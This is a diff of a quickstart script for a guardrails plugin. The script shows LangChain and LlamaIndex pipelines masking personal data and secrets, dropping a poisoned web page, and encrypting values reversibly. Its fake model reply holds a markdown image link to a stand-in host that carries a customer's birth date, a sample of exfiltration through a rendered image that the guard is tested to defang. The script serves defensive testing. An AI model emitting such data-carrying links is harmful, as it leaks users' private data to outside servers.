@@ -1,6 +1,6 @@
 """The main job, offline: a guarded LangChain chain, a guarded LlamaIndex ingestion, encryption and the way back.
 
-    python examples/quickstart.py
+python examples/quickstart.py
 """
 
 from __future__ import annotations
@@ -8,7 +8,7 @@ from __future__ import annotations
 import sys
 import time
 from collections import Counter
-from collections.abc import Mapping, Sequence
+from collections.abc import Mapping
 from pathlib import Path
 from typing import Any
 
@@ -16,6 +16,7 @@ from langchain_core.language_models import GenericFakeChatModel
 from langchain_core.messages import AIMessage
 from langchain_core.output_parsers import StrOutputParser
 from langchain_core.prompts import ChatPromptTemplate
+from langchain_core.runnables import RunnableLambda
 from llama_index.core import Document
 from llama_index.core.ingestion import IngestionPipeline
 from llama_index.core.node_parser import SentenceSplitter
@@ -30,15 +31,19 @@ from guardrails_plugin.langchain import Guard
 from guardrails_plugin.llama_index import GuardTransform
 
 DATA = Path(__file__).parent / "data"
-COLOURS = {"allow": "green", "report": "blue", "transform": "yellow", "block": "red"}
+CARD, SSN = "4111 1111 1111 1111", "536-90-4399"  # a card issuer's test number and an invented SSN
 REPLY = (
-    "Dear customer, your savings account is on its way. I tried the card 4111 1111 1111 1111 again and it works, and "
-    "the bureau now confirms the number 536-90-4399. You can follow the rest on the page for new customers. "
-    "![status](https://stats.example.net/p.png?d=4111111111111111) "
+    f"Your savings account is on its way. I tried the card {CARD} once more and it works, and the bureau has confirmed "
+    f"the number {SSN}. "
+    "![status](https://stats.example.net/p.png?q=The%20customer%20was%20born%20on%2007%2F22%2F1986%20in%20Fairview) "
     "If anything is unclear, just answer this message and we will call you back."
 )
+COLOURS = {"allow": "green", "report": "blue", "transform": "yellow", "block": "red"}
+DONE = {"block": "blocked", "defang": "defanged", "encrypt": "encrypted", "replace": "replaced", "report": "reported"}
+OFF = {"disabled": True}
 
-console = Console(width=118)
+Checks = list[tuple[str, bool]]
+console = Console(width=118, highlight=False)
 
 
 def load(name: str) -> str:
@@ -47,154 +52,135 @@ def load(name: str) -> str:
 
 
 class Recorder:
-    """An audit sink: the engine tells it what was found and done at every stage, never the text itself."""
+    """An audit sink: the engine tells it what was found and done at every stage, never the text."""
 
     def __init__(self) -> None:
-        self.rows: list[tuple[str, Mapping[str, Any]]] = []
-        self.names: list[str] = []
-
-    def about(self, *names: str) -> None:
-        """What the coming records are about, in order; the last name stays."""
-        self.names = list(names)
+        self.records: list[Mapping[str, Any]] = []
 
     def write(self, record: Mapping[str, Any]) -> None:
         """Take a record."""
-        name = self.names.pop(0) if len(self.names) > 1 else self.names[0]
-        self.rows.append((name, record))
+        self.records.append(record)
 
-    def table(self) -> Table:
-        """Everything that was recorded."""
+    def table(self, names: list[str]) -> Table:
+        """Every record, under the name of what it is about."""
         table = Table("what", "stage", "found and done", "verdict", title="What was found and done", expand=True)
         table.add_column("ms", justify="right")
-        for name, record in self.rows:
-            done = Counter(f"{found['type']} {past(found['action'])}" for found in record["findings"])
-            found = ", ".join(f"{count} x {what}" if count > 1 else what for what, count in done.items())
+        for name, record in zip(names, self.records, strict=True):
+            done = "\n".join(f"{DONE[action]} {types(record, action)}" for action in DONE if types(record, action))
             verdict = Text(record["verdict"], style=COLOURS[record["verdict"]])
-            table.add_row(name, record["stage"], found or "-", verdict, f"{record['seconds'] * 1000:.1f}")
+            table.add_row(name, record["stage"], done or "nothing", verdict, f"{record['seconds'] * 1000:.1f}")
         return table
 
 
-def past(action: str) -> str:
-    """``replace`` -> ``replaced``."""
-    return {"partial_mask": "partly masked"}.get(action, action + ("d" if action.endswith("e") else "ed"))
+def types(record: Mapping[str, Any], action: str) -> str:
+    """The entity types of an audit record that an action was taken on, with their number."""
+    counts = Counter(str(found["type"]) for found in record["findings"] if found["action"] == action)
+    return ", ".join(f"{count} {kind}" if count > 1 else kind for kind, count in counts.items())
 
 
-def guarded_chain(engine: Engine, recorder: Recorder) -> list[tuple[str, bool]]:
+def chain(engine: Engine) -> Checks:
     """LangChain: the prompt is guarded before the model sees it, the answer before anybody else does."""
-    console.rule("1. LangChain: prompt | Guard | model | Guard")
+    console.rule('1. LangChain: prompt | Guard("llm_prompt") | model | Guard("response")')
     prompt = ChatPromptTemplate.from_messages(
         [("system", "You answer the customers of a bank."), ("human", "Answer this ticket:\n\n{ticket}")]
     )
-    seen: list[str] = []
-
-    def spied(value: Any) -> Any:
-        seen.append(value.messages[-1].content)
-        return value
-
     model = GenericFakeChatModel(messages=iter([AIMessage(REPLY)] * 2))
-    chain = (
-        prompt
-        | Guard("llm_prompt", engine=engine)
-        | spied
-        | model
-        | Guard("response", engine=engine)
-        | StrOutputParser()
-    )
-    ticket = load("support_ticket.txt")
+    seen: list[str] = []
+    before = prompt | Guard("llm_prompt", engine=engine) | RunnableLambda(lambda value: noted(value, seen))
+    guarded = before | model | Guard("response", engine=engine) | StrOutputParser()
 
-    recorder.about("support_ticket.txt", "answer, invoked")
-    invoked = chain.invoke({"ticket": ticket})
-    recorder.about("support_ticket.txt", "answer, streamed")
-    chunks = [chunk for chunk in chain.stream({"ticket": ticket}) if chunk]
+    ticket = {"ticket": load("support_ticket.txt")}
+    answer = guarded.invoke(ticket)
+    chunks = [chunk for chunk in guarded.stream(ticket) if chunk]
 
-    console.print(Panel(Text(passage(seen[0], "Date of birth", 7)), title="what the model sees (excerpt)"))
-    console.print(Panel(Text(invoked), title=f"what the customer gets (streamed: the same, in {len(chunks)} chunks)"))
+    show("what the model sees", passage(seen[0], "Date of birth", 6))
+    show(f"what the customer gets (streamed: the same, in {len(chunks)} chunks)", answer)
     return [
-        ("the model never sees the SSN or the card", "536-90-4399" not in seen[0] and "4111 1111" not in seen[0]),
-        ("neither does the reader of the answer", "536-90-4399" not in invoked and "4111" not in invoked),
-        ("the stream says the same as the whole answer", "".join(chunks) == invoked and len(chunks) > 1),
+        ("the model sees neither card nor SSN", CARD not in seen[0] and SSN not in seen[0]),
+        ("nor does the reader of the answer", CARD not in answer and SSN not in answer),
+        ("the image that would carry data away is no link any more", "https://stats" not in answer),
+        ("the stream says the same as the whole answer", "".join(chunks) == answer and len(chunks) > 1),
     ]
 
 
-def guarded_ingestion(engine: Engine, recorder: Recorder) -> list[tuple[str, bool]]:
+def noted(value: Any, seen: list[str]) -> Any:
+    """The value itself; what the model is about to read is noted on the way."""
+    seen.append(str(value.to_messages()[-1].content))
+    return value
+
+
+def ingestion(engine: Engine) -> Checks:
     """LlamaIndex: the guard stands first, so nothing poisoned or private reaches the index."""
     console.rule("2. LlamaIndex: IngestionPipeline([GuardTransform(), SentenceSplitter()])")
-    names = sorted(path.name for path in DATA.iterdir() if path.is_file())
-    documents = [Document(text=load(name), metadata={"file_name": name}) for name in names]
+    documents = [Document(text=load(name), metadata={"file_name": name}) for name in names()]
     guard = GuardTransform(engine=engine)
     pipeline = IngestionPipeline(transformations=[guard, SentenceSplitter(chunk_size=4096)])
-
-    recorder.about(*names)
     nodes = {node.metadata["file_name"]: node.get_content() for node in pipeline.run(documents=documents)}
 
-    console.print(Panel(Text(passage(nodes["api_log.txt"], "config     AWS", 6)), title="api_log.txt, indexed (excerpt)"))
-    console.print(f"dropped: {', '.join(name for name in names if name not in nodes)} {reasons(guard)}\n")
-    ticket = nodes["support_ticket.txt"]
+    show("api_log.txt as it is indexed", passage(nodes["api_log.txt"], "2025-06-11T08:01:45.310Z", 5))
+    gone = [name for name in names() if name not in nodes]
+    why = [reason for result in guard.dropped for reason in result.reasons]
+    console.print(f"dropped: {', '.join(gone) or 'nothing'} ({'; '.join(why)})\n")
+    ticket, mails, log = (nodes.get(name, "") for name in ("support_ticket.txt", "email_thread.txt", "api_log.txt"))
     return [
-        ("the poisoned page was dropped", "web_page.md" not in nodes and len(nodes) == len(names) - 1),
-        ("personal data was replaced", "<US_SSN>" in ticket and "536-90-4399" not in ticket),
-        ("secrets were replaced", "ghp_" not in nodes["api_log.txt"]),
+        ("the poisoned page was dropped, the others were kept", gone == ["web_page.md"]),
+        ("personal data was replaced", "<US_SSN>" in ticket and SSN not in ticket and "<IBAN_CODE>" in mails),
+        ("secrets were replaced", "<GITHUB_TOKEN>" in log and "ghp_" not in log and "AKIA" not in log),
         ("the clean document is untouched", nodes["clean.md"].strip() == load("clean.md").strip()),
     ]
 
 
-def encryption(engine: Engine, recorder: Recorder) -> list[tuple[str, bool]]:
-    """Values that keep their format and can be turned back by whoever holds the key."""
+def encryption(engine: Engine) -> Checks:
+    """Values keep their format, and whoever holds the key turns them back."""
     console.rule("3. Format-preserving encryption, and the way back")
+    original = f"Card {CARD} belongs to the customer with SSN {SSN}."
     overrides = {"pii": {"credit_card": "encrypt", "us_ssn": "encrypt"}}
-    original = "Card 4111 1111 1111 1111 belongs to the customer with SSN 536-90-4399."
-
-    recorder.about("card and SSN")
     result = engine.check(original, stage="prompt", overrides=overrides)
     card, ssn = (replacement.text for replacement in result.replacements)
-    answer = f"I have noted the SSN {ssn}; the card {card} was charged."
+    answer = f"I have noted {ssn}; the card {card} was charged."
     restored = engine.unredact(answer, result.fpe_context or "")
 
-    grid = Table.grid(padding=(0, 2))
-    for label, text in [
-        ("original", original),
-        ("encrypted", result.output),
-        ("a model's answer", answer),
-        ("turned back", restored),
-    ]:
-        grid.add_row(Text(label, style="dim"), text)
-    console.print(Panel(grid))
+    lines = [("original", original), ("encrypted", result.output), ("an answer", answer), ("turned back", restored)]
+    show("", "\n".join(f"{label:<12} {text}" for label, text in lines))
     return [
-        ("nothing of the values is left", "4111 1111" not in result.output and "536-90-4399" not in result.output),
-        ("they keep their format", len(result.output) == len(original)),
-        ("they come back, in other words too", "SSN 536-90-4399; the card 4111 1111 1111 1111 was" in restored),
+        ("nothing of the values is left", CARD not in result.output and SSN not in result.output),
+        ("they keep their format", [len(card), len(ssn)] == [len(CARD), len(SSN)]),
+        ("they come back, in other words too", restored == f"I have noted {SSN}; the card {CARD} was charged."),
     ]
 
 
+def names() -> list[str]:
+    """The files of examples/data."""
+    return sorted(path.name for path in DATA.iterdir() if path.suffix in {".md", ".txt"})
+
+
 def passage(text: str, start: str, lines: int) -> str:
-    """Some lines of a text, from the one that holds ``start``."""
-    return "\n".join(text[text.index(start) :].splitlines()[:lines])
+    """Some lines of a text, from ``start`` on."""
+    return "\n".join(line.strip() for line in text[text.index(start) :].splitlines()[:lines])
 
 
-def reasons(guard: GuardTransform) -> str:
-    """Why documents were dropped."""
-    return "; ".join(f"({', '.join(result.reasons)})" for result in guard.dropped)
-
-
-def warm(engine: Engine, stages: Sequence[str]) -> Engine:
-    """Patterns are compiled and models loaded at the first check of a stage."""
-    for stage in stages:
-        engine.check("Good morning to everybody.", stage=stage)
-    return engine
+def show(title: str, text: str) -> None:
+    """Print a text in a box."""
+    console.print(Panel(Text(text), title=title or None, title_align="left"))
 
 
 def main() -> int:
     """Run all three and say whether everything is as it should be."""
     began = time.perf_counter()
     recorder = Recorder()
-    recorder.about("first check")
-    engine = warm(Engine(keyring=None, sinks=[recorder]), ["llm_prompt", "response", "ingestion"])
-    with_keys = warm(Engine(keyring=Keyring.generate(), sinks=[recorder]), ["prompt"])
-    recorder.rows.clear()
-    console.print(f"engines ready after {time.perf_counter() - began:.1f} s\n")
+    engine = Engine(sinks=[recorder])
+    with_key = Engine(sinks=[recorder], keyring=Keyring.generate())
+    for stage in ("llm_prompt", "response", "ingestion"):  # patterns are compiled, the model is loaded at first use
+        engine.check_batch([load(name) for name in names()], stage=stage, overrides={"prompt_injection": OFF})
+        engine.check("Good morning, everybody.", stage=stage)
+    recorder.records.clear()
+    console.print(f"engine ready after {time.perf_counter() - began:.1f} s: patterns compiled, model loaded\n")
 
-    checks = guarded_chain(engine, recorder) + guarded_ingestion(engine, recorder) + encryption(with_keys, recorder)
-    console.print(recorder.table())
+    checks = chain(engine) + ingestion(engine) + encryption(with_key)
+
+    about = ["support_ticket.txt", "answer", "support_ticket.txt", "answer, streamed", *names(), "card and SSN"]
+    console.print(recorder.table(about))
+    console.print("Documents are checked in one batch: their time is that of the batch.\n", style="dim")
     for claim, holds in checks:
         console.print(Text("  ok  " if holds else "FAIL  ", style="green" if holds else "bold red") + claim)
     return 0 if all(holds for _, holds in checks) else 1
